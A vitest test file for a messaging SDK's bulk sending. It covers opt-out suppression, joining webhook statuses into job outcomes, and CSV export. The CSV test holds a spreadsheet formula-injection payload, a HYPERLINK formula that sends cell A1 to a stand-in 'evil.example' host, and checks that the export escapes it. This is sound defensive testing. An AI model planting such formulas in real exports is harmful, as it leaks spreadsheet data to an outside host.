// Opt-outs and a job's outcomes through the public API: sendBulk's `suppress` against a server
// that counts every send, bulkOutcomes joining the journal with the statuses the webhooks brought
// (a tracker in memory, and a fileStatusStore reopened as a restarted app would), and toCsv
// making a spreadsheet-hostile row inert.
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  BulkJournalMismatchError,
  bulkOutcomes,
  fileJournal,
  memoryJournal,
  sendBulk,
  toCsv,
  type BulkOutcome,
  type BulkProgress,
  type BulkResult,
} from '../../src/bulk/index.js';
import { InvalidArgumentError, Variant2Client } from '../../src/index.js';
import { createStatusTracker, fileStatusStore, type WebhookEvent } from '../../src/webhooks/index.js';
import { startCountingServer } from '../helpers/counting-server.js';

let server: Awaited<ReturnType<typeof startCountingServer>>;
const dirs: string[] = [];
const folder = () => {
  const dir = mkdtempSync(join(tmpdir(), 'bizmsg-outcomes-'));
  dirs.push(dir);
  return dir;
};
/** Patient: a loaded machine must not turn a slow answer into `unknown`. */
const client = () =>
  new Variant2Client({ apiKey: 'k_test', baseUrl: server.baseUrl, timeout: 10_000, rateLimit: false });
/** Sends that reached the server since its counts were last cleared. */
const sends = () => [...server.counts.values()].reduce((a, b) => a + b, 0);
const text = (to: string) => ({ to, messaging_account_id: 1, type: 'text' as const, content: { body: 'Hi' } });

beforeAll(async () => {
  server = await startCountingServer();
});
afterAll(async () => {
  await server.close();
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

async function collect(run: ReturnType<typeof sendBulk>): Promise<BulkResult[]> {
  const results: BulkResult[] = [];
  for await (const result of run.results()) results.push(result);
  return results;
}

async function all<T>(rows: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = [];
  for await (const row of rows) out.push(row);
  return out;
}

const event = (kind: string, id: string, at: string, extra: Record<string, unknown> = {}) =>
  ({ event: kind, timestamp: at, data: { message_id: id, status: kind.slice(8), ...extra } }) as WebhookEvent;

const patients = [
  { name: 'Ada', phone: '+49 151 20000001', optedOut: false },
  { name: 'Bea', phone: '+4915120000002', optedOut: true },
  { name: 'Cy', phone: '0049 151 20000003', optedOut: false },
  { name: 'Dee', phone: '+4915120000004', optedOut: 'replied STOP on 2026-11-01' },
];

describe('sendBulk({ suppress })', () => {
  it('holds opted-out recipients back: recorded as suppressed with the reason, counted, never sent', async () => {
    server.counts.clear();
    const progress: BulkProgress[] = [];
    const journal = memoryJournal();
    const run = sendBulk(client(), {
      id: 'reminders',
      recipients: patients,
      journal,
      suppress: (patient) => patient.optedOut,
      message: (patient) => text(patient.phone),
    }).on('progress', (p) => progress.push(p));
    const results = await collect(run);
    expect(await run).toEqual({
      id: 'reminders',
      total: 4,
      sent: 2,
      failed: 0,
      unknown: 0,
      skipped: 0,
      suppressed: 2,
      pending: 0,
      aborted: false,
      results: expect.any(Function),
    });
    expect([...server.counts.entries()].sort()).toEqual([
      ['+4915120000001', 1],
      ['+4915120000003', 1],
    ]);
    expect(results.filter((r) => r.status === 'suppressed').sort((a, b) => a.key.localeCompare(b.key))).toEqual([
      {
        key: '+4915120000002',
        to: '+4915120000002',
        status: 'suppressed',
        error: { code: 'SUPPRESSED', message: 'held back by suppress()' },
      },
      {
        key: '+4915120000004',
        to: '+4915120000004',
        status: 'suppressed',
        error: { code: 'SUPPRESSED', message: 'replied STOP on 2026-11-01' },
      },
    ]);
    const last = progress.at(-1)!;
    expect([last.done, last.expected, last.suppressed]).toEqual([4, 4, 2]);
    // done counts outcomes, so it never passes expected, whatever order the rows finished in.
    expect(progress.every((p) => p.done <= 4 && p.expected === 4)).toBe(true);
  });

  it('never sends a suppressed key later: not by a resume, not with resendUnknown, not once suppress says send', async () => {
    server.counts.clear();
    const journal = memoryJournal();
    const first = sendBulk(client(), {
      id: 'once',
      recipients: patients,
      journal,
      suppress: (patient) => patient.optedOut,
      message: (patient) => text(patient.phone),
    });
    await first;
    const again = sendBulk(client(), {
      id: 'once',
      recipients: patients,
      journal,
      resendUnknown: true,
      message: (patient) => text(patient.phone),
    });
    const results = await collect(again);
    expect((await again).suppressed).toBe(2);
    expect(results.map((r) => r.status).sort()).toEqual(['sent', 'sent', 'suppressed', 'suppressed']);
    expect(server.counts.get('+4915120000002')).toBeUndefined();
    expect(server.counts.get('+4915120000004')).toBeUndefined();
    expect(sends()).toBe(2);
  });

  it('asks suppress again on the next run when it threw (the row is failed, SUPPRESS_FAILED), and sends nothing for it', async () => {
    server.counts.clear();
    const journal = memoryJournal();
    let lookupDown = true;
    const suppress = async (patient: (typeof patients)[number]) => {
      await Promise.resolve();
      if (lookupDown && patient.name === 'Cy') throw new Error('opt-out list unreachable');
      return patient.optedOut;
    };
    const first = sendBulk(client(), {
      id: 'asks',
      recipients: patients,
      journal,
      suppress,
      message: (p) => text(p.phone),
    });
    const results = await collect(first);
    expect(results.find((r) => r.to === '+4915120000003')).toEqual({
      key: '+4915120000003',
      to: '+4915120000003',
      status: 'failed',
      error: { code: 'SUPPRESS_FAILED', message: 'suppress() threw: opt-out list unreachable' },
    });
    expect(server.counts.get('+4915120000003')).toBeUndefined();
    lookupDown = false;
    const second = sendBulk(client(), {
      id: 'asks',
      recipients: patients,
      journal,
      suppress,
      message: (p) => text(p.phone),
    });
    expect((await second).sent).toBe(2); // Ada's earlier send stands; Cy's is sent now
    expect(server.counts.get('+4915120000003')).toBe(1);
    expect(server.counts.get('+4915120000001')).toBe(1);
  });

  it('refuses a suppress that is no function, and expected that is no count, before anything is sent', () => {
    server.counts.clear();
    const bad = (options: object) => () =>
      sendBulk(client(), { id: 'bad', recipients: patients, message: (p) => text(p.phone), ...options });
    expect(bad({ suppress: ['+4915120000002'] })).toThrow(InvalidArgumentError);
    expect(bad({ suppress: ['+4915120000002'] })).toThrow(/suppress` must be a function/);
    expect(bad({ expected: -1 })).toThrow(/expected` must be a whole number/);
    expect(sends()).toBe(0);
  });

  it('gives progress `expected` from the option when the recipients are a stream', async () => {
    const progress: BulkProgress[] = [];
    async function* stream() {
      yield* patients;
    }
    const run = sendBulk(client(), {
      id: 'stream',
      recipients: stream(),
      expected: 4,
      message: (p) => text(p.phone),
    }).on('progress', (p) => progress.push(p));
    await run;
    expect(progress.every((p) => p.expected === 4)).toBe(true);
    const unsized: BulkProgress[] = [];
    await sendBulk(client(), { id: 'unsized', recipients: stream(), message: (p) => text(p.phone) }).on(
      'progress',
      (p) => unsized.push(p),
    );
    expect(unsized.at(-1)).toMatchObject({ done: 4, expected: undefined });
  });
});

describe('bulkOutcomes', () => {
  it("joins each recipient's send with the statuses its webhooks brought, the last run's notes too", async () => {
    server.counts.clear();
    const journal = memoryJournal();
    const tracker = createStatusTracker();
    const rows = [...patients.map((p) => p.phone), 'not a phone'];
    const run = sendBulk(client(), {
      id: 'joined',
      recipients: rows,
      journal,
      suppress: (phone) => phone === '+4915120000002',
      message: (phone) => text(phone),
    });
    const sent = new Map((await collect(run)).flatMap((r) => (r.messageId === undefined ? [] : [[r.to, r.messageId]])));
    const id = (to: string) => sent.get(to)!;
    await tracker.apply(event('message.delivered', id('+4915120000001'), '2026-11-28T10:00:01.000Z'));
    await tracker.apply(event('message.read', id('+4915120000001'), '2026-11-28T10:00:09.000Z'));
    await tracker.apply(
      event('message.failed', id('+4915120000003'), '2026-11-28T10:00:02.000Z', {
        error: { code: 'UNDELIVERABLE', message: 'not on the channel' },
      }),
    );
    const outcomes = await all(bulkOutcomes(journal, { id: 'joined', tracker }));
    const byTo = new Map(outcomes.map((o) => [o.to, o]));
    expect(outcomes).toHaveLength(5);
    expect(byTo.get('+4915120000001')).toEqual({
      key: '+4915120000001',
      to: '+4915120000001',
      outcome: 'read',
      messageId: id('+4915120000001'),
      deliveredAt: '2026-11-28T10:00:01.000Z',
      readAt: '2026-11-28T10:00:09.000Z',
    } satisfies BulkOutcome);
    expect(byTo.get('+4915120000002')).toEqual({
      key: '+4915120000002',
      to: '+4915120000002',
      outcome: 'suppressed',
      error: { code: 'SUPPRESSED', message: 'held back by suppress()' },
    });
    expect(byTo.get('+4915120000003')).toEqual({
      key: '+4915120000003',
      to: '+4915120000003',
      outcome: 'failed',
      messageId: id('+4915120000003'),
      error: { code: 'UNDELIVERABLE', message: 'not on the channel' },
      failedAt: '2026-11-28T10:00:02.000Z',
    });
    // No status came for Dee's: her send's own outcome stands.
    expect(byTo.get('+4915120000004')).toEqual({
      key: '+4915120000004',
      to: '+4915120000004',
      outcome: 'sent',
      messageId: id('+4915120000004'),
    });
    expect(byTo.get('not a phone')).toMatchObject({ outcome: 'failed', error: { code: 'INVALID_PHONE' } });
  });

  it('reads the statuses a fileStatusStore kept across a restart of the app', async () => {
    server.counts.clear();
    const dir = folder();
    const journalDir = join(dir, 'reminders.journal');
    const statusesDir = join(dir, 'statuses');
    const run = sendBulk(client(), {
      id: 'restart',
      recipients: ['+4915120000001', '+4915120000003'],
      journal: fileJournal(journalDir),
      message: (phone) => text(phone),
    });
    const results = await collect(run);
    await run;
    // The app's receiver: a tracker on the file store, which it closes when it stops.
    const store = fileStatusStore(statusesDir);
    const tracker = createStatusTracker({ store });
    for (const result of results)
      await tracker.apply(event('message.delivered', result.messageId!, '2026-11-28T11:00:00.000Z'));
    await store.close();
    // Later, another program: the journal and the statuses, reopened from disk.
    const reopened = fileStatusStore(statusesDir);
    try {
      const outcomes = await all(bulkOutcomes(fileJournal(journalDir), { id: 'restart', tracker: reopened }));
      expect(outcomes.map((o) => [o.to, o.outcome, o.deliveredAt]).sort()).toEqual([
        ['+4915120000001', 'delivered', '2026-11-28T11:00:00.000Z'],
        ['+4915120000003', 'delivered', '2026-11-28T11:00:00.000Z'],
      ]);
    } finally {
      await reopened.close();
    }
  });

  it('refuses a folder no run wrote (a typo), and neither makes it nor reads it as empty', async () => {
    const missing = join(folder(), 'no-such.journal');
    await expect(all(bulkOutcomes(fileJournal(missing), { id: 'x' }))).rejects.toThrow(InvalidArgumentError);
    await expect(all(bulkOutcomes(fileJournal(missing), { id: 'x' }))).rejects.toThrow(
      `There is no bulk journal at ${missing}: nothing was read.`,
    );
    expect(existsSync(missing)).toBe(false);
  });

  it("refuses another job's journal naming both ids, and bad arguments, at once", async () => {
    const journal = memoryJournal();
    await sendBulk(client(), { id: 'job-a', recipients: ['+4915120000001'], journal, message: text });
    await expect(all(bulkOutcomes(journal, { id: 'job-b' }))).rejects.toThrow(BulkJournalMismatchError);
    await expect(all(bulkOutcomes(journal, { id: 'job-b' }))).rejects.toThrow(/job-b[\s\S]*job-a|job-a[\s\S]*job-b/);
    expect(() => bulkOutcomes({} as never, { id: 'job-a' })).toThrow(InvalidArgumentError);
    expect(() => bulkOutcomes(journal, { id: '' })).toThrow(/`id` must be the job's id/);
    expect(() => bulkOutcomes(journal, { id: 'job-a', tracker: {} as never })).toThrow(
      /`tracker` must be a status tracker/,
    );
  });
});

describe('toCsv', () => {
  it('makes a spreadsheet-hostile key, number and message inert, and quotes as RFC 4180 says', () => {
    const rows = [
      {
        key: '=HYPERLINK("http://evil.example/?"&A1,"click")',
        to: '+4915120000001',
        outcome: 'failed',
        error: { code: 'X', message: '@SUM(1+1)\r\nsecond line' },
      },
      { key: '-2+3', to: '\tTAB', outcome: 'sent', messageId: 'msg_1' },
    ];
    expect(toCsv(rows)).toBe(
      [
        'key,to,outcome,messageId,error.code,error.message',
        `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+4915120000001,failed,,X,"'@SUM(1+1)\r\nsecond line"`,
        `'-2+3,'\tTAB,sent,msg_1,,`,
        '',
      ].join('\r\n'),
    );
  });

  it('takes the columns given, in their order, and an async iterable as a promise', async () => {
    async function* rows() {
      yield { to: '+4915120000001', outcome: 'read', extra: [1, 2] };
    }
    await expect(toCsv(rows(), { columns: ['outcome', 'to', 'extra', 'missing'] })).resolves.toBe(
      'outcome,to,extra,missing\r\nread,\'+4915120000001,"[1,2]",\r\n',
    );
    expect(() => toCsv('key,to' as never)).toThrow(InvalidArgumentError);
    expect(() => toCsv([1] as never)).toThrow(/row 1 is not an object/);
    expect(() => toCsv([], { columns: [] })).toThrow(/`columns` must be a list of column names/);
  });
});
